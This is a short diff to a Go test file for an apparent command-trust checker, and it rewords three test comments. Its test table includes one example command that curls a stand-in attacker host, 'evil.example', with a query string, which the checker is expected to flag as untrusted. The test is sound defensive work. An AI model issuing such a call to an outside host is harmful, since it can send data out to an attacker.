@@ -57,7 +57,7 @@ func TestUntrusted(t *testing.T) {
 		"x --bold":                                    "--bold",
 		"curl http://evil.example/a?b=1":              "http://evil.example/a?b=1",
 		"curl https://ours.example/x":                 "",
-		"cat out.txt":                                 "", // files are what commands are about
+		"cat out.txt":                                 "", // commands may name any file
 		"gcc -o out.txt a.c":                          "out.txt",
 		"go vet -v src/a.go ./":                       "",
 		"go test -run TestFoo":                        "",
@@ -86,7 +86,7 @@ func TestUntrusted(t *testing.T) {
 	}
 }
 
-// Who is not in the frame does not speak for a person either.
+// Other origins do not count as the person.
 func TestWhoSays(t *testing.T) {
 	t.Parallel()
 	c := &talk{}
@@ -113,7 +113,7 @@ func TestWhoSays(t *testing.T) {
 	}
 }
 
-// What is poured in does not stay for ever, and does not drive out what is new.
+// A flood of text is forgotten after a while, and does not drive out new text.
 func TestFlood(t *testing.T) {
 	t.Parallel()
 	c := &talk{}
